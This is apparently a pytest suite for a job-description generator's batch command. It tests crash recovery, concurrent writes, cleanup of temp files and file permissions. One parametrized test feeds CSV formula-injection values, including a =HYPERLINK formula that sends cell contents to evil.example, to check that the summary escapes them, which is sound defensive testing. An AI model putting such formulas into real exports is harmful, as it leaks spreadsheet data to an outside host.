"""The batch summary matches the files on disk after any fault, and a fault leaves nothing behind.

A worker killed, the main process killed, two batches into one folder, a run killed while it
wrote: each has a test here (review D1, D10, D11, D14), with the summary's formula cells (D13)
and the permissions kept by --force (D12).
"""

from __future__ import annotations

import csv
import io
import os
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from jdgen.batch import running as batch
from jdgen.cli import main
from jdgen.render.output import remove_stale_temporaries, write_atomic
from tests import batch_faults

JDGEN = [sys.executable, "-m", "jdgen"]


def spec_of(folder: Path, companies: int, formats: str = "[md]") -> Path:
    """A spec of `companies` inline profiles × two archetypes, in Markdown (quick to write)."""
    profiles = "\n".join(f"  - {{company: Company {n}, industry: Retail}}" for n in range(companies))
    spec = folder / "spec.yaml"
    spec.write_text(f"archetypes: [digital, service-led]\nformats: {formats}\nprofiles:\n{profiles}\n")
    return spec


def summary_rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


def test_a_worker_that_dies_loses_no_item_and_runs_none_twice(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    spec = spec_of(tmp_path, 20)
    out = tmp_path / "out"
    out.mkdir()
    tasks = batch.plan(batch.load_spec(spec), spec, out)
    monkeypatch.setattr(batch, "_run_chunk", batch_faults.die_after_writing)
    monkeypatch.setenv("JDGEN_TEST_RUN_LOG", str(tmp_path / "retried.log"))
    result = batch.run(tasks, batch.Settings(), jobs=2)
    retried = (tmp_path / "retried.log").read_text().split()
    assert batch_faults.DIE_AFTER_ITEM in map(int, retried)
    assert len(retried) == len(set(retried))  # each lost item tried once more, not twice
    statuses = {r.item: r.status for r in result.items}
    assert len(result.items) == len(tasks) == 40
    # item 3 was written before its worker died: written by this run, not "skipped"
    assert set(statuses.values()) == {"written"}, [r for r in result.items if r.status != "written"]
    assert not result.interrupted
    assert len(list(out.glob("*.md"))) == 40


def test_a_rerun_after_a_worker_died_still_calls_old_files_skipped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    spec = spec_of(tmp_path, 20)
    out = tmp_path / "out"
    out.mkdir()
    tasks = batch.plan(batch.load_spec(spec), spec, out)
    assert batch.run(tasks, batch.Settings(), jobs=1).count("written") == 40
    old = time.time() - 3600
    for path in out.iterdir():
        os.utime(path, (old, old))
    monkeypatch.setattr(batch, "_run_chunk", batch_faults.die_after_writing)
    result = batch.run(tasks, batch.Settings(), jobs=2)
    assert {r.status for r in result.items} == {"skipped"}


def test_a_file_that_appears_while_its_item_is_written_is_skipped_not_failed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    spec = spec_of(tmp_path, 1)
    out = tmp_path / "out"
    out.mkdir()
    tasks = batch.plan(batch.load_spec(spec), spec, out)
    real_render = batch.render

    def render_while_another_batch_writes(*args: object, **kwargs: object) -> bytes | str:
        data = real_render(*args, **kwargs)  # type: ignore[arg-type]
        for task in tasks:
            for _, _, path in task.outputs:
                path.write_text("written by the other batch\n")
        return data

    monkeypatch.setattr(batch, "render", render_while_another_batch_writes)
    result = batch.run(tasks[:1], batch.Settings(), jobs=1)
    assert [r.status for r in result.items] == ["skipped"]
    assert tasks[0].outputs[0][2].read_text() == "written by the other batch\n"


def test_two_batches_into_one_folder_report_no_failure(tmp_path: Path) -> None:
    spec = spec_of(tmp_path, 60)
    runs = [
        subprocess.Popen(
            [*JDGEN, "batch", str(spec), "-o", "out", "--jobs", "1", "--summary", f"summary-{n}.csv"],
            cwd=tmp_path,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for n in (1, 2)
    ]
    outcomes = [run.communicate(timeout=300) for run in runs]
    assert [run.returncode for run in runs] == [0, 0], outcomes
    for n in (1, 2):
        rows = summary_rows(tmp_path / f"summary-{n}.csv")
        assert len(rows) == 120 and {r["status"] for r in rows} <= {"written", "skipped"}
    written = [r for n in (1, 2) for r in summary_rows(tmp_path / f"summary-{n}.csv") if r["status"] == "written"]
    assert len(written) == 120  # each file written by exactly one of the two
    assert len(list((tmp_path / "out").glob("*.md"))) == 120


def _children(pid: int) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == pid:
                found.append(int(entry.name))
    return found


def _alive(pid: int) -> bool:
    try:
        state = (Path("/proc") / str(pid) / "stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
def test_killing_the_batch_leaves_no_worker_behind(tmp_path: Path) -> None:
    spec = spec_of(tmp_path, 150, formats="[docx]")
    main_run = subprocess.Popen(
        [*JDGEN, "batch", str(spec), "-o", "out", "--jobs", "2"], cwd=tmp_path, stderr=subprocess.DEVNULL
    )
    workers: list[int] = []
    for _ in range(600):  # the workers start within a few seconds
        workers = [c for c in _children(main_run.pid) if b"spawn_main" in Path(f"/proc/{c}/cmdline").read_bytes()]
        if len(workers) == 2:
            break
        time.sleep(0.05)
    assert len(workers) == 2
    main_run.send_signal(signal.SIGKILL)
    main_run.wait()
    for _ in range(300):  # each worker looks for its parent once a second
        if not any(_alive(w) for w in workers):
            break
        time.sleep(0.1)
    assert not any(_alive(w) for w in workers)


def test_temporary_files_of_a_killed_run_are_removed_at_the_next_start(tmp_path: Path) -> None:
    dead = subprocess.Popen(["true"])
    dead.wait()
    out = tmp_path / "out"
    out.mkdir()
    stale = out / f".company-1-cco-digital.md.{dead.pid}.0123456789ab.tmp"
    old_release = out / ".company-2-cco-digital.md.0123456789ab.tmp"
    live = out / f".company-3-cco-digital.md.{os.getpid()}.0123456789ab.tmp"
    recent_old_release = out / ".company-4-cco-digital.md.ba9876543210.tmp"
    unrelated = out / ".notes.tmp"
    for path in (stale, old_release, live, recent_old_release, unrelated):
        path.write_text("partial")
    hours_ago = time.time() - 7200
    os.utime(old_release, (hours_ago, hours_ago))
    spec = spec_of(tmp_path, 1)
    result = CliRunner().invoke(main, ["batch", str(spec), "-o", str(out), "--jobs", "1"])
    assert result.exit_code == 0, result.output
    assert "removed 2 temporary file(s) left by a run that was killed" in result.stderr
    assert not stale.exists() and not old_release.exists()
    assert live.exists() and recent_old_release.exists() and unrelated.exists()
    assert remove_stale_temporaries(out) == []


def test_force_keeps_the_replaced_files_permissions(tmp_path: Path) -> None:
    target = tmp_path / "confidential.md"
    target.write_text("old")
    target.chmod(0o600)
    write_atomic(target, "new", force=True)
    assert target.read_text() == "new"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    result = CliRunner().invoke(main, ["generate", "-a", "digital", "-f", "md", "-o", str(target), "--force"])
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


@pytest.mark.parametrize("company", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)", "+1", "-2"])
def test_the_summary_csv_carries_no_spreadsheet_formula(company: str) -> None:
    item = batch.ItemResult(1, "p.yaml", company, "digital", "failed", error="=1+1 is wrong")
    text = batch.summary_text(batch.BatchResult([item]), "csv")
    row = summary_rows_from(text)[0]
    assert row["company"] == f"'{company}" and row["error"] == "'=1+1 is wrong"
    assert row["status"] == "failed"
    assert '"company": "' + company.replace('"', '\\"') in batch.summary_text(batch.BatchResult([item]), "json")


def summary_rows_from(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))
